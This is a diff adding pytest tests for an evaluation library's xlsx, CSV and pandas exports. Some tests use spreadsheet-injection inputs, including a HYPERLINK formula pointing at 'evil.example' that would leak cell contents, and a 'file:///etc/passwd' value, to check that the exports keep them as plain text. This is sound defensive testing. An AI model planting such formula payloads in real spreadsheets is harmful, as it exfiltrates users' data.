@@ -14,13 +14,15 @@ from typing import Any
 
 import pytest
 
-from askance.errors import AskanceError, MissingExtra, StoreError, UsageError
+from askance.errors import AskanceError, MissingExtra, Refused, StoreError, UsageError
 from askance.evals import Evaluation, Run, Sample, Score, Scorer, evaluate, mean
-from askance.evals.exports import FORMS, export
+from askance.evals.exports import FORMS, export, to_pandas
+from askance.evals.exports.frames import LONGEST_CELL
 from askance.evals.exports.rows import columns_of, rows_of
 from askance.evals.tables import spreadsheet_cell
 from tests.evals.guilty import run_of
 from tests.evals.numbers import NON_ANSWERS
+from tests.evals.pictures import OPTIONS, chain_of, picture_run
 
 
 @pytest.fixture
@@ -179,6 +181,7 @@ LIBRARIES: dict[str, tuple[str, Write, str]] = {
     "pandas": ("pandas", lambda run, _: run.to_pandas(), "frames"),
     "polars": ("polars", lambda run, _: run.to_polars(), "frames"),
     "parquet": ("pyarrow", lambda run, place: export(run, "parquet", place), "arrow"),
+    "excel": ("xlsxwriter", lambda run, place: export(run, "xlsx", place), "excel"),
     "mlflow": ("mlflow.tracking", lambda run, place: export(run, "mlflow", place), "mlflow"),
     "hf": ("datasets", lambda run, place: export(run, "hf", place), "hf"),
 }
@@ -236,3 +239,114 @@ def test_the_forms_are_those_that_the_command_names() -> None:
 
 def test_rows_name_their_columns_once(run: Run) -> None:
     assert all(len({*row}) == len(row) for row in rows_of(run))
+
+
+# --- workbooks ---
+
+
+def sheet_of(place: Path) -> list[list[Any]]:
+    """The cells of a workbook, each with its value and its type."""
+    book: Any = import_module("openpyxl").load_workbook(place)
+    return [[(cell.value, cell.data_type) for cell in row] for row in book.active.iter_rows()]
+
+
+def test_a_workbook_has_the_rows_of_the_csv(run: Run, tmp_path: Path) -> None:
+    head, *rows = sheet_of(export(run, "xlsx", tmp_path / "x.xlsx"))
+
+    columns = columns_of(run)
+    assert [value for value, _ in head] == [*columns]
+    there = {name: [row[place][0] for row in rows] for place, name in enumerate(columns)}
+    assert there == {name: [value if value != "" else None for value in values] for name, values in columns.items()}
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "https://example.org", "file:///etc/passwd", "{=1+1}"], ids=repr)
+def test_no_cell_of_a_workbook_is_computed_or_led_away_by(tmp_path: Path, text: str) -> None:
+    place = export(odd_run(tmp_path, value=text, name=f"{text} name"), "xlsx", tmp_path / "x.xlsx")
+
+    cells = [cell for row in sheet_of(place) for cell in row]
+    assert {kind for _, kind in cells} <= {"s", "n", "b"}
+    assert sum(str(value).replace("_x000D_", "\r") == text for value, _ in cells) == 3  # value, note, tag
+    with zipfile.ZipFile(place) as file:
+        texts = [file.read(name).decode() for name in file.namelist()]
+    assert not any("<f>" in each or "hyperlink" in each for each in texts)
+
+
+def test_a_text_that_would_be_computed_stays_a_text_when_it_is_edited(tmp_path: Path) -> None:
+    place = export(odd_run(tmp_path, value="=1+1", name="plain"), "xlsx", tmp_path / "x.xlsx")
+
+    book: Any = import_module("openpyxl").load_workbook(place)
+    marked = {cell.value: bool(cell.quotePrefix) for row in book.active.iter_rows() for cell in row}
+    assert (marked["=1+1"], marked["plain"]) == (True, False)
+
+
+def test_what_no_cell_can_hold_is_cut_and_says_so(tmp_path: Path) -> None:
+    place = export(odd_run(tmp_path, value="x" * (LONGEST_CELL + 1)), "xlsx", tmp_path / "x.xlsx")
+
+    longest = max((str(value) for row in sheet_of(place) for value, _ in row), key=len)
+    assert (len(longest), longest[-32:]) == (LONGEST_CELL, "x … (cut: --to csv has it whole)")
+
+
+# --- single pictures ---
+
+
+def test_pictures_have_a_row_each_with_what_every_link_says(tmp_path: Path) -> None:
+    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)
+
+    rows = [*rows_of(run)]
+
+    assert [*rows[0]] == [
+        *("image", "outcome", "reason", "objects", "scene_text", "narration", "unusual", "description"),
+        *("relation", "statement", "answers", "chosen", "options", "sha256"),
+        *("calls", "replayed", "seconds", "cost", "input_tokens", "output_tokens"),
+    ]
+    assert (rows[0]["outcome"], rows[0]["reason"], rows[0]["objects"]) == ("answered", None, ["cup", "bricks"])
+    assert (rows[0]["answers"], rows[0]["chosen"]) == ([2, 1, 3], [OPTIONS[1], OPTIONS[0], OPTIONS[2]])
+    assert rows[0]["relation"] in {"TR1", "TR2", "OIO", "OR"}
+    assert (rows[0]["cost"], rows[0]["output_tokens"]) == (None, 0)
+
+
+def test_a_picture_without_an_answer_has_the_same_columns(tmp_path: Path) -> None:
+    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=1, unusual=Refused("It would rather not."))
+
+    (row,) = rows_of(run)
+
+    assert (row["outcome"], row["unusual"], row["objects"]) == ("skipped", None, ["cup", "bricks"])
+    assert (row["description"], row["answers"], row["chosen"]) == (None, None, None)
+    assert "would rather not" in str(row["reason"])
+
+
+@pytest.mark.parametrize("form", [form for form in FORMS if form not in {"mlflow", "hf"}])
+def test_pictures_are_written_in_every_form(tmp_path: Path, form: str) -> None:
+    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)
+
+    assert export(run, form, tmp_path / f"x.{form}").stat().st_size > 0
+
+
+def test_what_a_picture_says_is_no_formula(tmp_path: Path) -> None:
+    said = '=HYPERLINK("https://evil.example/?"&A1)'
+    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=1, narration={"description": said})
+
+    with export(run, "csv", tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    cells = [cell for line in sheet_of(export(run, "xlsx", tmp_path / "x.xlsx")) for cell in line]
+
+    assert row["narration"] == f"'{said}"
+    assert (said, "s") in cells
+
+
+def test_a_frame_is_made_of_a_run_a_folder_or_readings(tmp_path: Path) -> None:
+    pytest.importorskip("pandas")
+    run = picture_run(tmp_path / "run", tmp_path / "pictures", count=2)
+    readings = [chain_of().invoke({"image": answer.sample.id, "options": OPTIONS}) for answer in run.answers]
+
+    frames = [to_pandas(source) for source in (run, run.path, str(run.path), readings)]
+
+    assert [list(frame["narration"]) for frame in frames] == [["A cup on a table."] * 2] * 4
+    assert [list(frame["answers"]) for frame in frames] == [["[2, 1, 3]"] * 2] * 4
+    assert list(frames[3]["image"]) == ["00.png", "01.png"]
+
+
+def test_no_readings_make_an_empty_frame() -> None:
+    pytest.importorskip("pandas")
+
+    assert len(to_pandas([])) == 0
